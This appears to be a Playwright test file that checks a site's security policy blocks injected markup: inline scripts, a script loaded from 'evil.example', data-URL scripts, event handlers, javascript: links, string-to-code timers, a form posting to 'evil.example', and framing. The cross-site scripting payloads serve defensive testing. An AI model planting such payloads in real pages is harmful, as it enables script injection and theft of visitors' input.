import { expect, type Page } from "@playwright/test";
import { hydrated } from "../support/hydrated";
import { test } from "../support/policy-test";

/** Puts markup into a page on its way, as a hole in the site would; its headers stay. */
const plant = async (page: Page, path: string, markup: string): Promise<void> => {
  await page.route(`**${path}`, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace("</body>", `${markup}</body>`);
    await route.fulfill({ response, body });
  });
  await page.goto(path);
};

/** Playwright's own click waits for the page that a click asks for, and the policy refuses this one. */
const clickAtOnce = (page: Page, selector: string) =>
  page.locator(selector).evaluate((element: HTMLElement) => window.setTimeout(() => element.click()));

const hasRun = (page: Page) => page.evaluate(() => "planted" in window);

for (const [what, markup] of [
  ["an inline script", "<script>window.planted = true</script>"],
  ["a script of another host", '<script src="https://evil.example/planted.js"></script>'],
  ["a script in a data address", '<script src="data:text/javascript,window.planted=true"></script>'],
  ["an event handler", '<img src="/nothing.png" alt="" onerror="window.planted = true">'],
] as const) {
  test(`${what} that was planted in a page does not run`, async ({ page, refusals }) => {
    await plant(page, "/about", markup);
    await expect.poll(() => refusals.length).toBeGreaterThan(0);
    expect(await hasRun(page)).toBe(false);
    await hydrated(page);
    expect(await hasRun(page)).toBe(false);
    refusals.length = 0;
  });
}

test("a link that is a script does nothing", async ({ page, refusals }) => {
  await plant(page, "/about", '<a id="planted" href="javascript:window.planted = true">Go</a>');
  await clickAtOnce(page, "#planted");
  await expect.poll(() => refusals.join()).toMatch(/^Running the JavaScript URL violates/);
  refusals.length = 0;
});

test("text cannot become code", async ({ page, refusals }) => {
  await page.goto("/about");
  await page.evaluate(() => void window.setTimeout("window.planted = true"));
  await expect.poll(() => refusals.length).toBeGreaterThan(0);
  expect(await hasRun(page)).toBe(false);
  refusals.length = 0;
});

test("a planted form cannot send what visitors write to another host", async ({ page, refusals }) => {
  const sent: string[] = [];
  page.on("request", (request) => sent.push(new URL(request.url()).host));
  await plant(
    page,
    "/about",
    '<form action="https://evil.example/" method="post"><button id="planted">Win</button></form>',
  );
  await clickAtOnce(page, "#planted");
  await expect.poll(() => refusals.length).toBeGreaterThan(0);
  expect(sent).not.toContain("evil.example");
  refusals.length = 0;
});

test("the site cannot be shown inside another page", async ({ page, baseURL, refusals }) => {
  await page.setContent(`<iframe src="${baseURL}/about" title="Framed"></iframe>`);
  await expect.poll(() => refusals.length).toBeGreaterThan(0);
  await expect(page.frameLocator("iframe").getByRole("heading", { level: 1 })).toHaveCount(0);
  refusals.length = 0;
});
